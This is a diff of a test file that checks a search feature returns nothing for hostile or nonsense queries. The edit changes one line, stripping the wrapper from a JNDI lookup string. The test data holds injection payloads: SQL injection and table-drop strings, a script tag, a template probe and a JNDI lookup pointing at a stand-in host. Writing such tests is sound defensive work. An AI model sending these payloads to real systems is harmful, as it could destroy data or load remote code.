@@ -7,7 +7,7 @@ export const queries = asked('hostile or nonsense', {
     askForNothing("' or 1=1 --", 'KW'),
     askForNothing('"; drop table companies; --', 'KW'),
     askForNothing('<script>alert(1)</script>', 'KW'),
-    askForNothing('{{7*7}} ${jndi:ldap://x.example/a}', 'KW'),
+    askForNothing('{{7*7}} jndi:ldap://x.example/a', 'KW'),
     askForNothing('pizza delivery near me', 'AE'),
     askForNothing('iphone 17 pro max price', 'KW'),
     askForNothing('cheap flights to dubai', 'KW'),
